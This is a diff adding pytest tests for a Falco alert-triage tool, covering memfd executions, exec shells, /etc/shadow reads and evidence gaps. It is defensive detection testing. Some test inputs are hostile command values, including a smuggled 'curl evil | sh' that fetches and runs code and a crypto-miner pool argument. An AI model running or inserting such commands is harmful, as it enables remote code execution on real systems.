@@ -1,0 +1,329 @@
+"""Stories: an alert, and the disposition, claims and gaps expected of it, written first."""
+
+from __future__ import annotations
+
+import pytest
+
+import analysis as fa
+from analysis import knowledge, tables
+from analysis.errors import EvidenceError
+from analysis.findings import Finding, duration, fill_claim
+
+from .conftest import case_of, lines, story
+
+
+def claims(case: fa.Case) -> str:
+    """Return all that is claimed, as one text."""
+    return "\n".join(finding.claim for finding in case.findings)
+
+
+# ---------------------------------------------------------------- memfd
+def test_event_generator_is_a_simulation(memfd):
+    """The test tool's exact shape: said with its evidence, and to be confirmed by a person."""
+    case = case_of(memfd)
+
+    assert case.disposition == "simulation"
+    (reason,) = case.reasons
+    assert "Consistent with a Falco event-generator simulation" in reason.claim
+    assert "confirm with whoever ran it" in reason.claim
+    cited = {one.field: one.value for one in reason.evidence}
+    assert cited["proc.pname"] == "event-generator"
+    assert cited["proc.cmdline"] == "3 run helper.DoNothing"
+    assert cited["proc.exepath"] == "memfd:program"
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"proc.cmdline": "3 -o stratum+tcp://pool"},
+        {"proc.cmdline": "3 run helper.DoNothing; curl evil | sh"},
+        {"proc.exepath": "memfd:kworker"},
+        {"proc.pname": "event-generatorx"},
+        {"proc.pname": ...},
+        {"evt.arg.flags": "EXE_WRITABLE"},
+    ],
+)
+def test_imitations_of_the_test_tool_are_no_simulation(memfd, change):
+    """One part that does not fit, or is not known, and the explanation is gone."""
+    assert case_of(story(memfd, **change)).disposition != "simulation"
+
+
+RUNC = {
+    "proc.name": "6",
+    "proc.exepath": "memfd:runc_cloned:/proc/self/exe",
+    "proc.cmdline": "6 init",
+    "proc.pname": "runc",
+    "proc.aname[2]": "containerd-shim",
+    "proc.sname": "runc",
+    "proc.tty": 0,
+}
+
+
+@pytest.mark.parametrize(
+    "path", ["memfd:runc_cloned:/proc/self/exe", "/memfd:runc_cloned:/proc/self/exe"]
+)
+def test_runc_s_own_clone_is_a_known_benign_pattern(memfd, path):
+    """In the exact shape, as either driver spells it, and still to be confirmed by hash."""
+    case = case_of(story(memfd, **RUNC | {"proc.exepath": path}))
+
+    assert case.disposition == "known benign pattern"
+    assert "compare the hash" in case.reasons[0].claim
+
+
+@pytest.mark.parametrize(
+    "change",
+    [{"proc.pname": "python3"}, {"proc.cmdline": "6 -c payload"}, {"proc.tty": 34816}],
+)
+def test_imitations_of_runc_are_suspicious(memfd, change):
+    """The name of a memfd is free text: it alone excuses nothing."""
+    case = case_of(story(memfd, **RUNC | change))
+
+    assert case.disposition == "suspicious"
+    assert "imitation" in " ".join(finding.claim for finding in case.reasons)
+
+
+@pytest.mark.parametrize("parent", ["python3", "perl", "bash", "curl", "nginx", "java", "postgres"])
+def test_loaders(memfd, parent):
+    """An interpreter, shell, download tool or server as loader is suspicious, with the technique."""
+    case = case_of(
+        story(memfd, **{"proc.pname": parent, "proc.cmdline": "3", "proc.exepath": "memfd:x"})
+    )
+
+    assert case.disposition == "suspicious"
+    assert "T1620" in case.reasons[0].techniques
+
+
+def test_failed_execution_is_not_told_as_an_execution(memfd):
+    """With ENOENT, every process field is that of the caller."""
+    text = claims(case_of(story(memfd, **{"evt.res": "ENOENT"})))
+
+    assert "failed (ENOENT): nothing was executed" in text
+    assert "The execution succeeded" not in text
+
+
+def test_digit_without_memfd(memfd):
+    """systemd-executor runs through a descriptor too: a digit as name is no memfd."""
+    systemd = {
+        "proc.name": "9",
+        "proc.exepath": "/usr/lib/systemd/systemd-executor",
+        "evt.arg.flags": "EXE_WRITABLE",
+        "proc.pname": "systemd",
+        "container.id": "host",
+    }
+    text = claims(case_of(story(memfd, **systemd)))
+
+    assert "A digit alone does not mean a memfd" in text
+    assert "lay in a memfd" not in text
+
+
+def test_unknown_parent_is_not_invented(memfd):
+    """Without a parent's name, nothing is said of a parent."""
+    case = case_of(story(memfd, **{"proc.pname": ..., "proc.aname[2]": ...}))
+
+    assert "Ancestry" not in claims(case)
+    assert "proc.pname" in {gap.field for gap in case.gaps}
+
+
+# ---------------------------------------------------------------- gaps
+def test_absent_and_empty_fields_are_told_apart(memfd):
+    """What was not asked for can be had next time; what Falco did not know cannot."""
+    case = case_of(story(memfd, **{"proc.pname": None, "user.name": "<NA>"}))
+    gaps = {gap.field: gap for gap in case.gaps}
+
+    assert gaps["proc.pname"].asked
+    assert "no setting brings it back" in gaps["proc.pname"].how_to_get_it
+    assert not gaps["proc.pid"].asked
+    assert gaps["proc.pid"].how_to_get_it == (
+        "json_output: true\n"
+        "append_output:\n"
+        "  - match:\n"
+        "      source: syscall\n"
+        "    extra_fields:\n"
+        "      - proc.pid\n"
+    )
+
+
+def test_a_field_that_is_there_is_no_gap(memfd):
+    """With a pid, the gap closes and the commands that need it open."""
+    case = case_of(story(memfd, **{"proc.pid": 4711}))
+
+    assert "proc.pid" not in {gap.field for gap in case.gaps}
+    assert any("/proc/4711/exe" in command.text for command in case.commands)
+
+
+def test_host_alerts_lack_no_container_details(shadow):
+    """A host process has no image: that is no gap."""
+    fields = {gap.field for gap in case_of(shadow).gaps}
+
+    assert not [field for field in fields if field.startswith(("container.", "k8s."))]
+
+
+# ---------------------------------------------------------------- other rules
+def test_terminal_shell_by_exec(shell):
+    """A shell under the shim fits an exec session; who did it is not in the alert."""
+    case = case_of(shell)
+
+    assert case.disposition == "needs review"
+    assert "the shape of an exec session" in claims(case)
+    assert [c.status for c in case.causes] == ["supported", "unknown"]
+
+
+def test_terminal_shell_under_a_server(shell):
+    """A web server's child with a terminal is an upgraded shell."""
+    case = case_of(story(shell, **{"proc.pname": "nginx"}))
+
+    assert case.disposition == "suspicious"
+    assert "is what an attacker makes of a command injection" in claims(case)
+
+
+def test_same_terminal_number_is_not_the_same_session(shell):
+    """pts/0 counts per container: the report says so."""
+    assert "does not tie it to another session of the same number" in claims(case_of(shell))
+
+
+def test_shadow_by_a_person(shadow):
+    """Encoding /etc/shadow is suspicious; the login id leads to the person."""
+    case = case_of(shadow)
+
+    assert case.disposition == "suspicious"
+    assert "session that was opened for user id 1000" in claims(case)
+    assert any(command.text == "getent passwd 1000" for command in case.commands)
+
+
+def test_shadow_by_backup(shadow):
+    """A backup job by name and without terminal: a benign cause is supported, not concluded."""
+    backup = {
+        "proc.name": "restic",
+        "proc.cmdline": "restic backup /etc",
+        "proc.tty": 0,
+        "proc.pname": "cron",
+    }
+    case = case_of(story(shadow, **backup))
+
+    assert case.disposition == "needs review"
+    assert case.causes[0].status == "supported"
+
+
+def test_open_flags_are_not_exe_flags(shadow):
+    """evt.arg.flags of an open says nothing of the program file."""
+    case = case_of(story(shadow, **{"evt.arg.flags": "O_RDONLY|FD_UPPER_LAYER"}))
+
+    assert not [finding for finding in case.findings if finding.topic == "executable"]
+
+
+def test_rule_without_playbook_says_so(shell):
+    """An unknown rule gets what its fields support, and the mark that nothing more is known."""
+    case = case_of(shell | {"rule": "Our own rule"})
+
+    assert case.playbooks[0].generic
+    assert "no playbook for this rule" in fa_text(case)
+    assert case.disposition == "needs review"
+
+
+def test_rule_of_another_source_speaks_of_no_process():
+    """An audit alert has no process: nothing is claimed or missed about one."""
+    audit = {
+        "rule": "Attach/Exec Pod",
+        "priority": "Notice",
+        "time": "2026-01-02T03:04:05Z",
+        "source": "k8s_audit",
+        "output_fields": {"ka.user.name": "dev", "ka.target.name": "web", "ka.verb": "create"},
+    }
+    case = case_of(audit)
+
+    assert {finding.topic for finding in case.findings} == {"event"}
+    assert not case.gaps
+
+
+def fa_text(case: fa.Case) -> str:
+    """Return the playbook part as HTML."""
+    return tables.playbook(case).html
+
+
+# ---------------------------------------------------------------- the machine
+def test_every_claim_rests_on_values_of_the_alert(memfd, shell, shadow):
+    """Evidence is never null, and each value is the alert's own."""
+    for alert in (memfd, shell, shadow):
+        for finding in case_of(alert).findings:
+            assert finding.evidence
+            for one in finding.evidence:
+                assert one.value == alert["output_fields"].get(one.field, alert.get(one.field))
+
+
+def test_no_finding_without_evidence():
+    """A claim that nothing supports cannot be made."""
+    with pytest.raises(EvidenceError):
+        Finding("It was aliens.", "process", (), "low")
+
+
+def test_claims_are_not_templates_of_the_attacker():
+    """Braces in a value are text; a missing value withholds the sentence."""
+    facts = {"proc.name": "{proc.pid}", "proc.pid": 1}
+
+    assert fill_claim("It is '{proc.name}'.", facts) == "It is '{proc.pid}'."
+    assert fill_claim("It is '{proc.cwd}'.", facts) is None
+
+
+def test_hidden_characters_are_written_out(memfd):
+    """A claim shows what an eye would miss."""
+    case = case_of(story(memfd, **{"proc.pname": "ev\u202eil\n\x1b[2J"}))
+
+    assert "ev⟨U+202E⟩il⟨LF⟩⟨ESC⟩[2J" in claims(case)
+
+
+@pytest.mark.parametrize(
+    ("seconds", "said"),
+    [
+        (0.0134, "0.013 s"),
+        (17.09, "17.1 s"),
+        (61, "1 min 1 s"),
+        (3600, "1 h"),
+        (93784, "1 d 2 h"),
+        (-5, "5.0 s"),
+    ],
+)
+def test_durations(seconds, said):
+    """The two largest units, as a person says them."""
+    assert duration(seconds) == said
+
+
+def test_deliveries_of_one_alert_are_one_incident(memfd):
+    """Received twice is not happened twice; both records are kept."""
+    alerts, _ = fa.read_alerts(lines(memfd, memfd | {"uuid": "second"}))
+    alerts, incidents = fa.correlate(alerts)
+
+    assert incidents["records"].tolist() == [2]
+    case = fa.investigate(alerts)
+    assert len(case.exhibits) == 1
+    assert len(case.exhibits[0].receipts) == 2
+
+
+def test_ids_do_not_depend_on_order(memfd, shell, shadow):
+    """Any order of the same alerts gives the same incidents."""
+    one = fa.correlate(fa.read_alerts(lines(memfd, shell, shadow))[0])[1]
+    other = fa.correlate(fa.read_alerts(lines(shadow, memfd, shell))[0])[1]
+
+    assert one["incident_id"].tolist() == other["incident_id"].tolist()
+
+
+def test_wrong_calls_are_named(memfd, shell):
+    """Several incidents, or one that is not there."""
+    alerts, _ = fa.read_alerts(lines(memfd, shell))
+
+    with pytest.raises(ValueError, match="2 incidents here"):
+        fa.investigate(alerts)
+    with pytest.raises(KeyError, match="no incident inc-0"):
+        fa.investigate(alerts, incident_id="inc-0")
+
+
+def test_timeline_is_in_order(memfd):
+    """The container's start comes before the event, each with the field that says so."""
+    moments = case_of(memfd).timeline
+
+    assert moments["field"].tolist() == ["container.start_ts", "time"]
+    assert moments["time"].is_monotonic_increasing
+
+
+def test_every_reading_can_hold():
+    """A reading that no story here makes true is either dead or untested."""
+    assert len(knowledge.readings()) > 30
